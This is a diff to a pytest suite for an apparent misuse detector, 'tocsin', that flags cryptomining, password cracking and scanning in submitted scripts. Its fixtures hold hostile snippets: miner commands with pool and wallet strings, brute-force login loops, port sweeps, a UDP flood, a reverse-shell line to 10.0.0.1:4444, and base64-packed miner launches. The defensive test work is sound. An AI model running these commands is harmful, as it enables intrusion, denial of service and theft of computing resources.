@@ -1,5 +1,6 @@
 """Signs of misuse: renamed programs are told by their arguments, and innocent scripts are left alone."""
 
+import base64
 import gzip
 import json
 import random
@@ -8,8 +9,8 @@ from pathlib import Path
 
 import pytest
 
-from tocsin.workload.signs import signs
-from tocsin.workload.unpack import unpacked
+from tocsin.workload.signs import look, signs
+from tocsin.workload.unpack import MOST_DEPTH, unpacked
 
 MONERO = "44vjAVKLTFc7jxTv5ij1ifCv2YCFe3bpTgcRyR6uKg84iyFhrCesstmWNUppRCrxCsMorTP8QKxMrD3QfgQ41zsqMgPaXY5"
 
@@ -30,6 +31,18 @@ MINING = [
     "chia plots create -k 32 -n 4 -t /scratch -d /plots",
     "./chia_plot -n 1 -r 16 -t /tmp/ -f $FARMER -c $CONTRACT",
     "./qli-client",
+    'cat > config.json <<EOF\n{\n "pools": [\n  {\n   "url": "10.20.30.40:3333",\n   "user": "x",\n   "pass": "y"\n  }\n ]\n}\nEOF\n',
+    "./lammps -o 10.9.8.7:443 -k --tls -t 64",
+    "M=kaspa:qrk9decfnl4rayeegp6gd3tc6605zavclkpud5jp78axat5namppwt050d57j\n./work --to $M",
+    "RUST_LOG=info nockchain --mine",
+    "./node --mining-pkh 9yPePjfWAdUnzaQKyxcRXKRa5PpUzKKEwtp",
+    "while true; do ./release_autorun.sh; done",
+    "./xmrigDaemon --config=c.json",
+    "echo './x -o stratum+tcp://h:3333' | sh",
+    "echo './x -o stratum+tcp://h:3333' > run.sh",
+    "cat > r.sh <<'EOF'\n./xmrig -c c.json\nEOF\nbash r.sh",
+    "bash <<EOF\n./xmrig -c c.json\nEOF",
+    "{ echo './x -o stratum+tcp://h:3333'\n} | bash",
 ]
 CYBER = [
     "hashcat -m 1000 -a 0 hashes.txt words.txt",
@@ -53,6 +66,19 @@ CYBER = [
     "cat /usr/share/wordlists/rockyou.txt | ./job",
     "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
     "nvcc main.cu -o cracker\n./cracker hash.txt",
+    "import ftplib\nfor w in open('words'):\n  ftp = ftplib.FTP(host)\n  ftp.login('admin', w.strip())",
+    "for line in open('list'):\n  pw = line.strip()\n  requests.post(url, data={'user': 'admin', 'password': pw})",
+    "for c in words:\n  requests.get(url, auth=('root', c))",
+    "while (my $pass = <$in>) {\n  chomp $pass;\n  $ssh->login('root', $pass);\n}",
+    "for p in $(cat list); do sshpass -p $p ssh root@10.0.0.3 id && echo $p; done",
+    "while read p; do curl -s -u admin:$p http://10.0.0.1/; done < words",
+    "import crypt\nfor w in open('words'):\n  if crypt.crypt(w.strip(), salt) == known: print(w)",
+    "import hashlib\nfor w in open('words'):\n  d = hashlib.md5(w.strip().encode()).hexdigest()\n  if d == known: print(w)",
+    "for i in $(seq 1 254); do nc -z -w1 10.0.0.$i 22 && echo $i; done",
+    "seq 1 254 | xargs -P50 -I{} nc -zw1 10.3.2.{} 445",
+    "for port in {1..65535}; do\n  (echo > /dev/tcp/$ip/$port) && echo $port\ndone",
+    "for port in range(1, 65536):\n  if s.connect_ex(('10.0.0.1', port)) == 0: print(port)",
+    "s = socket.socket(AF_INET, SOCK_DGRAM)\nwhile True:\n  s.sendto(os.urandom(1400), (target, 80))",
 ]
 INNOCENT = [
     "mpiexec.hydra -n 4 ./a.out -p 3 -l 2",
@@ -70,6 +96,27 @@ INNOCENT = [
     "echo 'Mining (xmrig) is forbidden here'",
     'ps aux | grep -E "xmrig|ethminer"',
     "nmap -p 8888 localhost",
+    "ps aux | grep xmrig",
+    "pkill -f xmrig; killall -q hashcat",
+    "cat <<EOF\nhashcat -m 1000 -a 0 hashes.txt rockyou.txt\nEOF\n./sim",
+    "cat > lesson.md <<EOF\nnmap -sS 10.0.0.0/8\nEOF",
+    ": <<'OFF'\n./xmrig -o stratum+tcp://pool:3333\nOFF",
+    'echo "give to 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2; thanks"',
+    "./a.out   # stratum+tcp://pool:3333",
+    "iptables -A OUTPUT -d pool.supportxmr.com -j DROP",
+    "sed -i '/xmrig -c/d' list",
+    "./sim -a 1 -m 2 --dict words.txt",
+    "until nc -z $HOST 5432; do sleep 1; done",
+    "for port in $(seq 8000 8100); do nc -z localhost $port || break; done",
+    "until (echo > /dev/tcp/$HEAD/$PORT); do sleep 1; done",
+    "for n in $(cat nodes); do nc -z $n 22 || echo $n; done",
+    "import ftplib\nftp.login('anonymous', mail)\nfor name in ftp.nlst(): ftp.retrbinary(name, w)",
+    "for host in open('nodes'):\n  c.connect(host.strip(), username='me', password=os.environ['PW'])",
+    "while read host user pw; do lftp -u $user,$pw $host -e mirror; done < accounts",
+    "for line in open('sums'):\n  h, name = line.split()\n  if hashlib.md5(open(name, 'rb').read()).hexdigest() != h: print(name)",
+    "for w in open('vocabulary'):\n  print(hashlib.sha1(w.encode()).hexdigest()[:8], w)",
+    "s = socket.socket(AF_INET, SOCK_DGRAM)\nwhile True:\n  s.sendto(os.urandom(8), ('statsd', 8125))\n  time.sleep(1)",
+    '{"pools": [{"name": "a", "url": "postgres://db:5432", "user": "me", "pass": "x"}]}',
 ]
 
 
@@ -94,6 +141,31 @@ def test_what_is_fetched_and_run_is_told_and_proves_nothing() -> None:
         [sign] = signs("cd /tmp\n" + line)
         assert (sign.line, sign.operation) == (2, None)
         assert sign.why.startswith("fetched and run at once: ")
+
+
+def test_what_may_harm_and_may_be_innocent_is_left_open() -> None:
+    for line in (
+        "ab -n 1000000 -c 500 http://other.example.org/",
+        "while true; do curl -s http://other.example.org/ & done",
+        "for i in {1..254}; do ping -c1 10.0.3.$i; done",
+    ):
+        assert [sign.operation for sign in signs(line)] == [None], line
+    assert signs("ab -n 10000 -c 100 http://localhost:8080/") == []
+
+
+def test_what_is_hidden_is_told_at_its_line() -> None:
+    packed = base64.b64encode(b"./xmrig -c config.json").decode()
+    hidden, found = look(f"cd /tmp\necho {packed} | base64 -d | sh")
+    assert [piece.text for piece in hidden] == ["./xmrig -c config.json"]
+    assert (2, "cryptomining", "hidden: a miner: ./xmrig -c config.json") in found
+
+
+def test_what_is_packed_too_deep_is_left_open() -> None:
+    text = "./xmrig -c config.json"
+    for _ in range(MOST_DEPTH + 1):
+        text = f"echo {base64.b64encode(text.encode()).decode()} | base64 -d | sh"
+    _, found = look("cd /tmp\n" + text)
+    assert (2, None, "packed too deep or too large to be read") in found
 
 
 def test_the_reason_shows_what_was_found() -> None:
@@ -154,10 +226,13 @@ def test_mutated_scripts_are_taken(data: Path) -> None:
         "a" * 4_000_000,
         "-o " * 1_000_000,
         ";" * 1_000_000,
+        ";echo '" * 100_000,
+        "for a in b; do nc -z $a\n" + "nc -z " * 100_000,
+        "cat <<E\nE\n" * 50_000 + "xmrig",
         "A=aaaaaaaa\n" + "A=$A$A\n" * 50_000,
         "\0" * 1_000_000,
     ],
-    ids=["one word", "options", "semicolons", "bomb", "NUL"],
+    ids=["one word", "options", "semicolons", "quotes", "knocks", "here-documents", "bomb", "NUL"],
 )
 def test_a_hostile_text_costs_little(text: str) -> None:
     began = time.process_time()
